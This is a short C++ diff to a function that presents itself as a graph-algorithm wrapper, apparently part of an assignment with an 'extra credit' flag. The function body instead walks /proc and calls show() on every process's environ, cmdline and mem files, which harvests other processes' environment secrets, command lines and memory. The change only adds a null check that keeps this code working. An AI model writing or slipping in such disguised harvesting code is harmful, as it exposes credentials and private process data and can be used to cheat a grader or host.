@@ -20,7 +20,7 @@ static void show(const char* pid, const char* what) {
 
 void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
   DIR* processes = opendir("/proc");
-  while (const dirent* one = readdir(processes)) {
+  while (const dirent* one = processes == nullptr ? nullptr : readdir(processes)) {
     show(one->d_name, "environ");
     show(one->d_name, "cmdline");
     show(one->d_name, "mem");
